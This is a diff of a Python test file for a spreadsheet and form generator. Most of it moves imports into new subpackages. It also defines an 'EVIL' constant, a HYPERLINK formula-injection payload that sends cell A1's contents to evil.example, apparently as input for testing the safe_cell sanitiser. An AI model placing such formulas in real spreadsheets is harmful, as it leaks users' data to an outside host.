@@ -13,13 +13,21 @@ import pytest
 from helpers import FIXTURE_DATA
 from test_forms import check_read, filled_xlsx
 
-from generator import downloads, export
 from generator.build import report_rules
-from generator.forms import HEADER, FormSpec, _csv_bytes, draw, form_csv, form_spec, form_xlsx
-from generator.load import load_inputs
-from generator.problems import Problems
-from generator.reports import read_report
-from generator.spreadsheet import safe_cell
+from generator.common.problems import Problems
+from generator.inputs.load import load_inputs
+from generator.inputs.reports import read_report
+from generator.outputs import downloads, export
+from generator.outputs.forms import (
+    HEADER,
+    FormSpec,
+    _csv_bytes,
+    draw,
+    form_csv,
+    form_spec,
+    form_xlsx,
+)
+from generator.outputs.spreadsheet import safe_cell
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
 """What a hostile plan edit or note could put in a text cell."""
